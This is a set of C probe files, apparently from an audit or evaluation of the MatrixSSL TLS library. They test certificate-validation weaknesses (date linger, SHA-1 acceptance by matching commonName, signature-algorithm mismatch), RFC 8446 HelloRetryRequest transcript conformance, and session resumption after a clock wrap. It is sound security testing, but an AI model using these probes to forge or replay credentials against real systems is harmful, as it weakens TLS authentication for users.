    if (psEccGenKey(NULL, &key, curve, NULL) < 0)
    {
        return 2;
    }
    printf("probe_ecdsa_equal_points (P-256):\n");
    for (round = 0; round < 2; round++)
    {
        if (sign_e(&key, round, dig, sig, &sigLen) < 0)
        {
            return 2;
        }
        status = 0;
        rc = psEccDsaVerify(NULL, &key, dig, curve->size, sig, sigLen,
                &status, NULL);
        printf("  %-46s rc=%d status=%d -> %s\n",
            round ? "valid signature on the digest e = r*d mod n:"
                  : "valid signature on an unrelated digest:",
            rc, status, (rc >= 0 && status == 1) ? "accepted" : "REFUSED");
    }
    psEccClearKey(&key);
    pstm_clear(&n);
    psCryptoClose();
    return 0;
}
