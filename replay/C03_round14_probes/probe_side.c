/*
    Side observations on the UNMODIFIED validator (they are independent of
    the seeded change in core/src/corelib_date.c).  Prints one line per
    observation: CONFIRMED when the behaviour described in NOTES.md is seen.
    Always exits 0.
 */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <time.h>

#include "matrixssl/matrixsslApi.h"

#include "probe_certs.h"

static int validate(const char *what, const unsigned char *leafDer, int leafLen,
    const unsigned char *caDer, int caLen)
{
    psX509Cert_t *ca = NULL, *leaf = NULL, *found = NULL;
    int32 rc, accepted = 0;

    if (psX509ParseCert(NULL, caDer, caLen, &ca, 0) < 0)
    {
        printf("    %s: CA does not parse\n", what);
        psX509FreeCert(ca);
        return -1;
    }
    rc = psX509ParseCert(NULL, leafDer, leafLen, &leaf, 0);
    if (rc < 0)
    {
        printf("    %s: leaf refused by the parser (rc=%d parseStatus=%d)\n",
            what, rc, leaf ? (int) leaf->parseStatus : -1);
    }
    else
    {
        rc = matrixValidateCerts(NULL, leaf, ca, NULL, &found, NULL, NULL);
        accepted = (rc == PS_SUCCESS && leaf->authStatus == PS_CERT_AUTH_PASS);
        printf("    %s: rc=%d authStatus=%d failFlags=0x%x -> %s\n", what, rc,
            leaf->authStatus, leaf->authFailFlags,
            accepted ? "ACCEPTED" : "refused");
    }
    psX509FreeCert(leaf);
    psX509FreeCert(ca);
    return accepted;
}

/* S1: the 24 h "linger" (PS_X509_TIME_LINGER) on both ends of the validity
   period. validateDateRange() is the only place where the date verdict
   (PS_CERT_AUTH_FAIL_DATE_FLAG) of a certificate is made. */
static void fmt(char *out, time_t t)
{
    struct tm tm;

    gmtime_r(&t, &tm);
    strftime(out, 16, "%Y%m%d%H%M%SZ", &tm);
}

static void probe_linger(void)
{
    psX509Cert_t c;
    char nb[16], na[16];
    time_t now = time(NULL);
    int expiredAccepted, futureAccepted, ctlExpired, ctlFuture;

    printf("S1  validity period is widened by 24 hours on both ends\n");

    memset(&c, 0, sizeof(c));
    c.notBeforeTimeType = c.notAfterTimeType = ASN_GENERALIZEDTIME;
    c.notBefore = nb;
    c.notAfter = na;

    fmt(nb, now - 400 * 86400); fmt(na, now - 12 * 3600);
    c.authFailFlags = 0; validateDateRange(&c);
    expiredAccepted = !(c.authFailFlags & PS_CERT_AUTH_FAIL_DATE_FLAG);
    printf("    notAfter = now-12h  (%s): %s\n", na,
        expiredAccepted ? "no date failure" : "date failure");

    fmt(nb, now - 400 * 86400); fmt(na, now - 36 * 3600);
    c.authFailFlags = 0; validateDateRange(&c);
    ctlExpired = !!(c.authFailFlags & PS_CERT_AUTH_FAIL_DATE_FLAG);
    printf("    notAfter = now-36h  (%s): %s\n", na,
        ctlExpired ? "date failure" : "no date failure");

    fmt(nb, now + 12 * 3600); fmt(na, now + 400 * 86400);
    c.authFailFlags = 0; validateDateRange(&c);
    futureAccepted = !(c.authFailFlags & PS_CERT_AUTH_FAIL_DATE_FLAG);
    printf("    notBefore = now+12h (%s): %s\n", nb,
        futureAccepted ? "no date failure" : "date failure");

    fmt(nb, now + 36 * 3600); fmt(na, now + 400 * 86400);
    c.authFailFlags = 0; validateDateRange(&c);
    ctlFuture = !!(c.authFailFlags & PS_CERT_AUTH_FAIL_DATE_FLAG);
    printf("    notBefore = now+36h (%s): %s\n", nb,
        ctlFuture ? "date failure" : "no date failure");

    printf("S1  %s\n", (expiredAccepted && futureAccepted && ctlExpired &&
                        ctlFuture) ? "CONFIRMED" : "NOT CONFIRMED");
}

/* S2: without ENABLE_SHA1_SIGNED_CERTS a SHA-1 signature is meant to be
   tolerated on root certificates only; "root" is decided by comparing the
   commonName of subject and issuer, nothing else. */
static void probe_sha1cn(void)
{
    int same, other;

    printf("S2  SHA-1 signed end-entity certificate whose CN equals its "
        "issuer's CN\n");
    same = validate("sha1, subject CN == issuer CN, other DN parts differ",
            s1same_der, sizeof(s1same_der), s1ca_der, sizeof(s1ca_der));
    other = validate("sha1, subject CN != issuer CN (control)",
            s1other_der, sizeof(s1other_der), s1ca_der, sizeof(s1ca_der));
    printf("S2  %s\n", (same == 1 && other == 0) ? "CONFIRMED" :
        "NOT CONFIRMED");
}

/* S3: the signature algorithm a certificate declares is used to pick the
   digest only; the verification primitive is picked from the issuer's key
   type. */
static void probe_sigfam(void)
{
    int plain, mism;

    printf("S3  certificate declares sha256WithRSAEncryption, issuer key is "
        "EC P-256, signature value is ECDSA\n");
    plain = validate("ecdsa-with-SHA256 declared (control)",
            ecleaf_der, sizeof(ecleaf_der), ecca_der, sizeof(ecca_der));
    mism = validate("sha256WithRSAEncryption declared, ECDSA signature",
            ecleaf_rsaoid_der, sizeof(ecleaf_rsaoid_der), ecca_der,
            sizeof(ecca_der));
    printf("S3  %s\n", (plain == 1 && mism == 1) ? "CONFIRMED" :
        "NOT CONFIRMED");
}

int main(void)
{
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    probe_linger();
    probe_sha1cn();
    probe_sigfam();
    matrixSslClose();
    return 0;
}
