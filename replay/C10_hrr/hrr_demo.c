/*
 * demo.c - C10 (wire behaviour conforms to the RFCs) demonstration.
 *
 * Scenario: TLS 1.3 handshake that goes through a HelloRetryRequest
 * (client sends a P-256 key share, server only accepts P-384).
 *
 * Stage 1 (in memory, no external tools):
 *   A MatrixSSL client and a MatrixSSL server are driven against each
 *   other through the buffer API. All bytes on the "wire" are captured.
 *   ClientHello1, HelloRetryRequest, ClientHello2 and ServerHello are
 *   plaintext, so the demo recomputes, straight from RFC 8446 4.4.1,
 *
 *     Transcript-Hash(CH1, HRR, CH2, SH) =
 *        Hash( 0xFE || 00 00 Hash.length || Hash(CH1) || HRR || CH2 || SH )
 *
 *   and compares it with the value both library instances fed into the key
 *   schedule (ssl->sec.tls13TrHashSnapshotCHtoSH), with
 *   TLS_AES_128_GCM_SHA256. Application data
 *   of several sizes is also round-tripped (this always works between two
 *   MatrixSSL peers: that is the point - the self test cannot see it).
 *
 * Stage 2 (independent peer, loopback):
 *   `openssl s_server -tls1_3 -groups P-384 -ciphersuites <suite> -rev`
 *   is started and a MatrixSSL client connects to it over TCP, again
 *   offering only a P-256 share so that OpenSSL answers with a
 *   HelloRetryRequest. The handshake must complete and a line of
 *   application data must come back reversed. Skipped (with a message)
 *   only if the openssl binary cannot be started; pass "--no-openssl"
 *   to skip it on purpose.
 *
 * "--sha384-info" additionally runs both stages with TLS_AES_256_GCM_SHA384
 * for information only (not counted in the exit status): that combination
 * already fails on the unmodified library, see NOTES.md.
 *
 * Exit status: 0 = property holds, 1 = violated, 2 = demo setup problem.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>
#include <errno.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <sys/time.h>
#include <arpa/inet.h>
#include <netinet/in.h>

#include "matrixssl/matrixsslImpl.h"

#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_KEY.h"
#include "testkeys/EC/ALL_EC_CAS.h"

#ifndef WORKTREE
# define WORKTREE "/tmp/seed2_C10"
#endif

static int g_violations = 0;

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    /* The demo is about the transcript, not about the test PKI
       (the test certificates may be expired on the day this runs). */
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

/* ------------------------------------------------------------------ */
/* Wire capture                                                         */

typedef struct
{
    unsigned char data[65536];
    size_t len;
} wire_t;

static void wireAppend(wire_t *w, const unsigned char *p, size_t n)
{
    if (w->len + n > sizeof(w->data))
    {
        n = sizeof(w->data) - w->len;
    }
    memcpy(w->data + w->len, p, n);
    w->len += n;
}

/* Concatenate the payloads of the plaintext handshake records (type 22)
   of one direction and return the idx'th handshake message (with its
   4 byte header). */
static int getPlainHsMsg(const wire_t *w, int idx,
        const unsigned char **msg, size_t *msgLen)
{
    static unsigned char hs[8][32768];
    static int which = 0;
    unsigned char *buf = hs[which & 7];
    size_t hsLen = 0, off = 0, p = 0;
    int i = 0;

    which++;
    while (off + 5 <= w->len)
    {
        size_t recLen = ((size_t) w->data[off + 3] << 8) | w->data[off + 4];
        if (off + 5 + recLen > w->len)
        {
            break;
        }
        if (w->data[off] == 22 && hsLen + recLen <= sizeof(hs[0]))
        {
            memcpy(buf + hsLen, w->data + off + 5, recLen);
            hsLen += recLen;
        }
        off += 5 + recLen;
    }
    while (p + 4 <= hsLen)
    {
        size_t l = ((size_t) buf[p + 1] << 16) | ((size_t) buf[p + 2] << 8)
            | buf[p + 3];
        if (p + 4 + l > hsLen)
        {
            break;
        }
        if (i == idx)
        {
            *msg = buf + p;
            *msgLen = 4 + l;
            return 0;
        }
        i++;
        p += 4 + l;
    }
    return -1;
}

static void hexdump(const char *what, const unsigned char *p, size_t n)
{
    size_t i;
    printf("    %-28s", what);
    for (i = 0; i < n; i++)
    {
        printf("%02x", p[i]);
    }
    printf("\n");
}

/* RFC 8446 section 4.4.1, computed only from bytes seen on the wire. */
static void rfcTranscriptHash(int sha384,
        const unsigned char *ch1, size_t ch1Len,
        const unsigned char *hrr, size_t hrrLen,
        const unsigned char *ch2, size_t ch2Len,
        const unsigned char *sh, size_t shLen,
        unsigned char *out)
{
    unsigned char hdr[4];
    unsigned char h1[64];

    hdr[0] = 254; /* message_hash */
    hdr[1] = 0;
    hdr[2] = 0;
    if (sha384)
    {
        psSha384_t c;
        hdr[3] = 48;
        psSha384Init(&c);
        psSha384Update(&c, ch1, ch1Len);
        psSha384Final(&c, h1);
        psSha384Init(&c);
        psSha384Update(&c, hdr, 4);
        psSha384Update(&c, h1, 48);
        psSha384Update(&c, hrr, hrrLen);
        psSha384Update(&c, ch2, ch2Len);
        psSha384Update(&c, sh, shLen);
        psSha384Final(&c, out);
    }
    else
    {
        psSha256_t c;
        hdr[3] = 32;
        psSha256Init(&c);
        psSha256Update(&c, ch1, ch1Len);
        psSha256Final(&c, h1);
        psSha256Init(&c);
        psSha256Update(&c, hdr, 4);
        psSha256Update(&c, h1, 32);
        psSha256Update(&c, hrr, hrrLen);
        psSha256Update(&c, ch2, ch2Len);
        psSha256Update(&c, sh, shLen);
        psSha256Final(&c, out);
    }
}

/* ------------------------------------------------------------------ */
/* Session set-up helpers                                               */

static int setupOpts(sslSessOpts_t *opts, int isServer,
        uint16_t *groups, psSize_t nGroups)
{
    psProtocolVersion_t ver[] = { v_tls_1_3 };
    uint16_t sigAlgs[] = {
        sigalg_ecdsa_secp256r1_sha256,
        sigalg_ecdsa_secp384r1_sha384,
        sigalg_rsa_pss_rsae_sha256,
        sigalg_rsa_pkcs1_sha256
    };
    int32_t rc;

    memset(opts, 0, sizeof(*opts));
    if (isServer)
    {
        rc = matrixSslSessOptsSetServerTlsVersions(opts, ver, 1);
    }
    else
    {
        rc = matrixSslSessOptsSetClientTlsVersions(opts, ver, 1);
    }
    if (rc < 0)
    {
        printf("setting TLS versions failed: %d\n", (int) rc);
        return -1;
    }
    opts->ecFlags = IS_SECP256R1 | IS_SECP384R1;
    rc = matrixSslSessOptsSetSigAlgs(opts, sigAlgs,
            sizeof(sigAlgs) / sizeof(sigAlgs[0]));
    if (rc < 0)
    {
        printf("matrixSslSessOptsSetSigAlgs failed: %d\n", (int) rc);
        return -1;
    }
    rc = matrixSslSessOptsSetKeyExGroups(opts, groups, nGroups, 1);
    if (rc < 0)
    {
        printf("matrixSslSessOptsSetKeyExGroups failed: %d\n", (int) rc);
        return -1;
    }
    return 0;
}

static int newClient(ssl_t **ssl, sslKeys_t *keys, psCipher16_t suite)
{
    /* Supports P-256 and P-384, but only sends a P-256 share. */
    uint16_t groups[] = { namedgroup_secp256r1, namedgroup_secp384r1 };
    psCipher16_t suites[1];
    sslSessOpts_t opts;
    int32_t rc;

    if (setupOpts(&opts, 0, groups, 2) < 0)
    {
        return -1;
    }
    suites[0] = suite;
    rc = matrixSslNewClientSession(ssl, keys, NULL, suites, 1, certCb,
            NULL, NULL, NULL, &opts);
    if (rc < 0)
    {
        printf("matrixSslNewClientSession failed: %d\n", (int) rc);
        return -1;
    }
    return 0;
}

static int newServer(ssl_t **ssl, sslKeys_t *keys)
{
    uint16_t groups[] = { namedgroup_secp384r1 };
    sslSessOpts_t opts;
    int32_t rc;

    if (setupOpts(&opts, 1, groups, 1) < 0)
    {
        return -1;
    }
    rc = matrixSslNewServerSession(ssl, keys, NULL, &opts);
    if (rc < 0)
    {
        printf("matrixSslNewServerSession failed: %d\n", (int) rc);
        return -1;
    }
    return 0;
}

/* ------------------------------------------------------------------ */
/* In-memory pump                                                       */

typedef struct
{
    ssl_t *ssl;
    const char *name;
    int hsDone;
    int failed;
    unsigned char app[70000];
    size_t appLen;
} peer_t;

static void handleRc(peer_t *p, int32_t rc, unsigned char *pt, uint32 ptLen)
{
    for (;; )
    {
        if (rc < 0)
        {
            printf("    %s: matrixSslReceivedData/ProcessedData failed: %d\n",
                    p->name, (int) rc);
            p->failed = 1;
            return;
        }
        switch (rc)
        {
        case MATRIXSSL_HANDSHAKE_COMPLETE:
            if (!p->hsDone)
            {
                p->hsDone = 1;
            }
            return;
        case MATRIXSSL_APP_DATA:
            if (p->appLen + ptLen <= sizeof(p->app))
            {
                memcpy(p->app + p->appLen, pt, ptLen);
                p->appLen += ptLen;
            }
            rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
            continue;
        case MATRIXSSL_RECEIVED_ALERT:
            printf("    %s: received alert level %u description %u\n",
                    p->name, pt[0], pt[1]);
            if (pt[0] == SSL_ALERT_LEVEL_FATAL)
            {
                p->failed = 1;
                return;
            }
            rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
            continue;
        case MATRIXSSL_REQUEST_CLOSE:
            p->failed = 1;
            return;
        default: /* REQUEST_SEND, REQUEST_RECV, SUCCESS */
            return;
        }
    }
}

/* Move everything `from` wants to send into `to`. Returns bytes moved. */
static size_t pumpOne(peer_t *from, peer_t *to, wire_t *cap)
{
    size_t moved = 0;
    unsigned char *out, *in, *pt;
    uint32 ptLen;
    int32 n, room, rc;

    while ((n = matrixSslGetOutdata(from->ssl, &out)) > 0)
    {
        int32 off = 0;

        if (cap)
        {
            wireAppend(cap, out, n);
        }
        while (off < n && !to->failed)
        {
            int32 chunk;
            room = matrixSslGetReadbuf(to->ssl, &in);
            if (room <= 0)
            {
                to->failed = 1;
                break;
            }
            chunk = (n - off < room) ? n - off : room;
            memcpy(in, out + off, chunk);
            off += chunk;
            pt = NULL;
            ptLen = 0;
            rc = matrixSslReceivedData(to->ssl, chunk, &pt, &ptLen);
            handleRc(to, rc, pt, ptLen);
        }
        moved += n;
        rc = matrixSslSentData(from->ssl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            from->hsDone = 1;
        }
        else if (rc < 0 || rc == MATRIXSSL_REQUEST_CLOSE)
        {
            from->failed = 1;
        }
        if (to->failed || from->failed)
        {
            break;
        }
    }
    return moved;
}

static int pump(peer_t *c, peer_t *s, wire_t *c2s, wire_t *s2c)
{
    int i;
    for (i = 0; i < 100; i++)
    {
        size_t m = pumpOne(c, s, c2s);
        m += pumpOne(s, c, s2c);
        if (c->failed || s->failed)
        {
            return -1;
        }
        if (m == 0)
        {
            break;
        }
    }
    return 0;
}

static int sendApp(peer_t *p, size_t len, unsigned char seed)
{
    size_t off = 0;
    while (off < len)
    {
        unsigned char *buf;
        size_t i, want = len - off;
        int32 avail;

        if (want > 16000)
        {
            want = 16000;
        }
        avail = matrixSslGetWritebuf(p->ssl, &buf, (uint32) want);
        if (avail <= 0)
        {
            return -1;
        }
        if ((size_t) avail < want)
        {
            want = avail;
        }
        for (i = 0; i < want; i++)
        {
            buf[i] = (unsigned char) (seed + (off + i) * 7);
        }
        if (matrixSslEncodeWritebuf(p->ssl, (uint32) want) < 0)
        {
            return -1;
        }
        off += want;
    }
    return 0;
}

static int checkApp(peer_t *rx, size_t len, unsigned char seed)
{
    size_t i;
    if (rx->appLen != len)
    {
        return -1;
    }
    for (i = 0; i < len; i++)
    {
        if (rx->app[i] != (unsigned char) (seed + i * 7))
        {
            return -1;
        }
    }
    rx->appLen = 0;
    return 0;
}

/* ------------------------------------------------------------------ */
/* Stage 1                                                              */

static int stage1(sslKeys_t *keys, psCipher16_t suite, const char *suiteName,
        int sha384)
{
    static peer_t c, s;
    static wire_t c2s, s2c;
    const unsigned char *ch1, *hrr, *ch2, *sh;
    size_t ch1Len, hrrLen, ch2Len, shLen;
    unsigned char expect[64];
    size_t hlen = sha384 ? 48 : 32;
    static const size_t sizes[] = { 1, 255, 256, 16384, 16385, 40000 };
    size_t i;
    int bad = 0;
    /* HelloRetryRequest.random, RFC 8446 4.1.3 */
    static const unsigned char hrrRandom[8] = {
        0xCF, 0x21, 0xAD, 0x74, 0xE5, 0x9A, 0x61, 0x11
    };

    printf("[stage 1] in-memory MatrixSSL <-> MatrixSSL, %s, "
            "HelloRetryRequest (P-256 share -> P-384)\n", suiteName);
    memset(&c, 0, sizeof(c));
    memset(&s, 0, sizeof(s));
    c2s.len = s2c.len = 0;
    c.name = "client";
    s.name = "server";
    if (newClient(&c.ssl, keys, suite) < 0 || newServer(&s.ssl, keys) < 0)
    {
        return 2;
    }
    if (pump(&c, &s, &c2s, &s2c) < 0 || !c.hsDone || !s.hsDone)
    {
        printf("    handshake between two MatrixSSL peers did not complete "
                "(client done=%d, server done=%d)\n", c.hsDone, s.hsDone);
        bad = 2;
        goto out;
    }
    if (getPlainHsMsg(&c2s, 0, &ch1, &ch1Len) < 0 ||
        getPlainHsMsg(&c2s, 1, &ch2, &ch2Len) < 0 ||
        ch1[0] != 1 || ch2[0] != 1)
    {
        printf("    could not find ClientHello1/ClientHello2 on the wire\n");
        bad = 2;
        goto out;
    }
    if (getPlainHsMsg(&s2c, 0, &hrr, &hrrLen) < 0 ||
        getPlainHsMsg(&s2c, 1, &sh, &shLen) < 0 ||
        hrr[0] != 2 || sh[0] != 2 ||
        memcmp(hrr + 4 + 2, hrrRandom, 8) != 0)
    {
        printf("    could not find HelloRetryRequest + ServerHello on the "
                "wire (no HRR happened?)\n");
        bad = 2;
        goto out;
    }
    printf("    wire: CH1 %u bytes, HRR %u bytes, CH2 %u bytes, SH %u bytes\n",
            (unsigned) ch1Len, (unsigned) hrrLen, (unsigned) ch2Len,
            (unsigned) shLen);

    rfcTranscriptHash(sha384, ch1, ch1Len, hrr, hrrLen, ch2, ch2Len,
            sh, shLen, expect);
    hexdump("RFC 8446 4.4.1 expects:", expect, hlen);
    hexdump("client used:", c.ssl->sec.tls13TrHashSnapshotCHtoSH, hlen);
    hexdump("server used:", s.ssl->sec.tls13TrHashSnapshotCHtoSH, hlen);
    if (memcmp(expect, c.ssl->sec.tls13TrHashSnapshotCHtoSH, hlen) != 0)
    {
        printf("    VIOLATION: client Transcript-Hash(CH1,HRR,CH2,SH) feeding "
                "the handshake traffic secrets differs from RFC 8446\n");
        bad = 1;
    }
    if (memcmp(expect, s.ssl->sec.tls13TrHashSnapshotCHtoSH, hlen) != 0)
    {
        printf("    VIOLATION: server Transcript-Hash(CH1,HRR,CH2,SH) feeding "
                "the handshake traffic secrets differs from RFC 8446\n");
        bad = 1;
    }

    /* Application data both ways (this works between two MatrixSSL peers
       even when they are both wrong). */
    for (i = 0; i < sizeof(sizes) / sizeof(sizes[0]); i++)
    {
        if (sendApp(&c, sizes[i], 3) < 0 || pump(&c, &s, NULL, NULL) < 0 ||
            checkApp(&s, sizes[i], 3) < 0 ||
            sendApp(&s, sizes[i], 9) < 0 || pump(&c, &s, NULL, NULL) < 0 ||
            checkApp(&c, sizes[i], 9) < 0)
        {
            printf("    VIOLATION: %u bytes of application data did not "
                    "round-trip\n", (unsigned) sizes[i]);
            bad = bad ? bad : 1;
            break;
        }
    }
    if (i == sizeof(sizes) / sizeof(sizes[0]))
    {
        printf("    application data round-trips between the two MatrixSSL "
                "peers (1..40000 bytes)\n");
    }
    if (!bad)
    {
        printf("    ok\n");
    }
out:
    matrixSslDeleteSession(c.ssl);
    matrixSslDeleteSession(s.ssl);
    return bad;
}

/* ------------------------------------------------------------------ */
/* Stage 2: MatrixSSL client against openssl s_server                   */

static pid_t startOpenssl(int port, const char *suiteName)
{
    char portStr[16];
    pid_t pid;

    snprintf(portStr, sizeof(portStr), "%d", port);
    pid = fork();
    if (pid == 0)
    {
        int fd = open("/dev/null", O_RDWR);
        if (fd >= 0)
        {
            dup2(fd, 0);
            dup2(fd, 1);
            dup2(fd, 2);
        }
        execlp("openssl", "openssl", "s_server",
                "-accept", portStr,
                "-tls1_3",
                "-groups", "P-384",
                "-ciphersuites", suiteName,
                "-cert", WORKTREE "/testkeys/EC/256_EC.pem",
                "-key", WORKTREE "/testkeys/EC/256_EC_KEY.pem",
                "-naccept", "1",
                "-rev",
                (char *) NULL);
        _exit(127);
    }
    return pid;
}

static int connectLoop(int port)
{
    struct sockaddr_in addr;
    int i, fd;

    memset(&addr, 0, sizeof(addr));
    addr.sin_family = AF_INET;
    addr.sin_port = htons((unsigned short) port);
    addr.sin_addr.s_addr = inet_addr("127.0.0.1");
    for (i = 0; i < 50; i++)
    {
        struct timeval tv;
        fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd < 0)
        {
            return -1;
        }
        if (connect(fd, (struct sockaddr *) &addr, sizeof(addr)) == 0)
        {
            tv.tv_sec = 5;
            tv.tv_usec = 0;
            setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
            return fd;
        }
        close(fd);
        usleep(100000);
    }
    return -1;
}

static int flushOut(peer_t *c, int fd, wire_t *cap)
{
    unsigned char *out;
    int32 n, rc;

    while ((n = matrixSslGetOutdata(c->ssl, &out)) > 0)
    {
        ssize_t w = send(fd, out, n, MSG_NOSIGNAL);
        if (w <= 0)
        {
            return -1;
        }
        if (cap)
        {
            wireAppend(cap, out, w);
        }
        rc = matrixSslSentData(c->ssl, (uint32) w);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE && !c->hsDone)
        {
            c->hsDone = 1;
        }
        else if (rc < 0 || rc == MATRIXSSL_REQUEST_CLOSE)
        {
            c->failed = 1;
            return -1;
        }
    }
    return 0;
}

static int stage2(sslKeys_t *keys, psCipher16_t suite, const char *suiteName)
{
    static peer_t c;
    static wire_t s2c;
    const unsigned char *hrr;
    size_t hrrLen;
    int port = 20000 + (int) (getpid() % 20000);
    pid_t pid;
    int fd = -1, status, bad = 0, sawHrr = 0;
    const char *line = "matrixssl-to-openssl\n";
    const char *expect = "lssnepo-ot-lssxirtam\n";
    static const unsigned char hrrRandom[8] = {
        0xCF, 0x21, 0xAD, 0x74, 0xE5, 0x9A, 0x61, 0x11
    };

    printf("[stage 2] MatrixSSL client <-> openssl s_server -tls1_3 "
            "-groups P-384 -ciphersuites %s (loopback port %d)\n",
            suiteName, port);
    pid = startOpenssl(port, suiteName);
    if (pid <= 0)
    {
        printf("    SKIPPED: cannot fork openssl\n");
        return 0;
    }
    fd = connectLoop(port);
    if (fd < 0)
    {
        if (waitpid(pid, &status, WNOHANG) == pid)
        {
            printf("    SKIPPED: openssl s_server did not start "
                    "(status 0x%x)\n", status);
            return 0;
        }
        kill(pid, SIGKILL);
        waitpid(pid, &status, 0);
        printf("    SKIPPED: cannot connect to openssl s_server\n");
        return 0;
    }

    memset(&c, 0, sizeof(c));
    s2c.len = 0;
    c.name = "client";
    if (newClient(&c.ssl, keys, suite) < 0)
    {
        bad = 2;
        goto out;
    }
    while (!c.failed)
    {
        unsigned char *in, *pt = NULL;
        uint32 ptLen = 0;
        int32 room, rc;
        ssize_t r;

        if (flushOut(&c, fd, NULL) < 0)
        {
            printf("    client gave up after sending its pending data "
                    "(fatal alert %d sent to openssl; 20 = bad_record_mac)\n",
                    (int) c.ssl->err);
            c.failed = 1;
            break;
        }
        if (c.hsDone == 1)
        {
            printf("    handshake with openssl complete, sending a line\n");
            c.hsDone = 2;
            if (matrixSslEncodeToOutdata(c.ssl, (unsigned char *) line,
                        (uint32) strlen(line)) < 0)
            {
                c.failed = 1;
                break;
            }
            continue;
        }
        if (c.appLen >= strlen(expect))
        {
            break;
        }
        room = matrixSslGetReadbuf(c.ssl, &in);
        if (room <= 0)
        {
            c.failed = 1;
            break;
        }
        r = recv(fd, in, room, 0);
        if (r <= 0)
        {
            printf("    peer closed the connection / timed out (recv=%d)\n",
                    (int) r);
            c.failed = 1;
            break;
        }
        wireAppend(&s2c, in, r);
        rc = matrixSslReceivedData(c.ssl, (uint32) r, &pt, &ptLen);
        handleRc(&c, rc, pt, ptLen);
    }
    if (getPlainHsMsg(&s2c, 0, &hrr, &hrrLen) == 0 && hrr[0] == 2 &&
        hrrLen > 38 && memcmp(hrr + 6, hrrRandom, 8) == 0)
    {
        sawHrr = 1;
    }
    printf("    openssl answered the first ClientHello with a "
            "HelloRetryRequest: %s\n", sawHrr ? "yes" : "NO");
    if (c.failed || c.hsDone == 0)
    {
        printf("    VIOLATION: handshake with the independent implementation "
                "failed (%s, HelloRetryRequest path)\n", suiteName);
        bad = 1;
    }
    else if (c.appLen != strlen(expect) ||
             memcmp(c.app, expect, strlen(expect)) != 0)
    {
        printf("    VIOLATION: application data did not round-trip through "
                "openssl (got %u bytes)\n", (unsigned) c.appLen);
        bad = 1;
    }
    else if (!sawHrr)
    {
        printf("    demo problem: no HelloRetryRequest was provoked\n");
        bad = 2;
    }
    else
    {
        printf("    ok: got the reversed line back from openssl\n");
    }
out:
    if (c.ssl)
    {
        matrixSslDeleteSession(c.ssl);
    }
    close(fd);
    kill(pid, SIGTERM);
    usleep(50000);
    kill(pid, SIGKILL);
    waitpid(pid, &status, 0);
    return bad;
}

/* ------------------------------------------------------------------ */

static void account(int rc, int *setupProblems)
{
    if (rc == 1)
    {
        g_violations++;
    }
    else if (rc != 0)
    {
        (*setupProblems)++;
    }
}

int main(int argc, char **argv)
{
    sslKeys_t *keys = NULL;
    matrixSslLoadKeysOpts_t keyOpts;
    int useOpenssl = 1;
    int sha384Info = 0;
    int i;
    int setupProblems = 0;
    int32_t rc;

    for (i = 1; i < argc; i++)
    {
        if (strcmp(argv[i], "--no-openssl") == 0)
        {
            useOpenssl = 0;
        }
        else if (strcmp(argv[i], "--sha384-info") == 0)
        {
            sha384Info = 1;
        }
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    signal(SIGPIPE, SIG_IGN);

    if (matrixSslOpen() < 0 || matrixSslNewKeys(&keys, NULL) < 0)
    {
        printf("matrixSslOpen/NewKeys failed\n");
        return 2;
    }
    memset(&keyOpts, 0, sizeof(keyOpts));
    keyOpts.key_type = PS_ECC;
    rc = matrixSslLoadKeysMem(keys, EC256, EC256_SIZE, EC256KEY,
            EC256KEY_SIZE, ECCAS, sizeof(ECCAS), &keyOpts);
    if (rc < 0)
    {
        printf("matrixSslLoadKeysMem failed: %d\n", (int) rc);
        return 2;
    }

    account(stage1(keys, TLS_AES_128_GCM_SHA256,
                "TLS_AES_128_GCM_SHA256", 0), &setupProblems);
    if (useOpenssl)
    {
        account(stage2(keys, TLS_AES_128_GCM_SHA256,
                    "TLS_AES_128_GCM_SHA256"), &setupProblems);
    }
    if (sha384Info)
    {
        /* Informational only, never counted: on the UNMODIFIED code a
           MatrixSSL client already fails HelloRetryRequest handshakes that
           end up with a SHA-384 suite (see NOTES.md, "side finding"). */
        printf("---- informational (not counted): SHA-384 suite ----\n");
        (void) stage1(keys, TLS_AES_256_GCM_SHA384,
                "TLS_AES_256_GCM_SHA384", 1);
        if (useOpenssl)
        {
            (void) stage2(keys, TLS_AES_256_GCM_SHA384,
                    "TLS_AES_256_GCM_SHA384");
        }
        printf("---- end informational ----\n");
    }

    matrixSslDeleteKeys(keys);
    matrixSslClose();

    if (g_violations)
    {
        printf("RESULT: C10 VIOLATED (%d check(s) failed): the TLS 1.3 "
                "transcript after a HelloRetryRequest does not follow "
                "RFC 8446 4.4.1\n", g_violations);
        return 1;
    }
    if (setupProblems)
    {
        printf("RESULT: demo could not run properly\n");
        return 2;
    }
    printf("RESULT: ok - HelloRetryRequest transcript conforms to RFC 8446 "
            "4.4.1 and the handshake interoperates\n");
    return 0;
}
