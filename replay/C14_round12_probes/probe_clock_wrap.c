/*
    Side-observation probe (UNMODIFIED code): the age of a cache entry is
    psDiffMsecs(), a 32-bit number of milliseconds.  matrixResumeSession
    rejects a negative age, but after 2^32 ms (49.7 days) the value is back
    in [0, SSL_SESSION_ENTRY_LIFE]: an entry that was not evicted meanwhile
    is resumable again for a day, 48.7 days after it expired.
    The probe interposes clock_gettime() to advance CLOCK_MONOTONIC.
    exit 0: expired session refused, exit 1: resumed.
*/
#define _GNU_SOURCE
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
static long long g_advanceSecs;
int clock_gettime(clockid_t id, struct timespec *ts)
{
    int rc = (int) syscall(SYS_clock_gettime, id, ts);
    ts->tv_sec += g_advanceSecs;
    return rc;
}
#include <stdio.h>
#include <string.h>
#include <stdlib.h>

#include "matrixssl/matrixsslImpl.h"

#include "testkeys/RSA/2048_RSA.h"
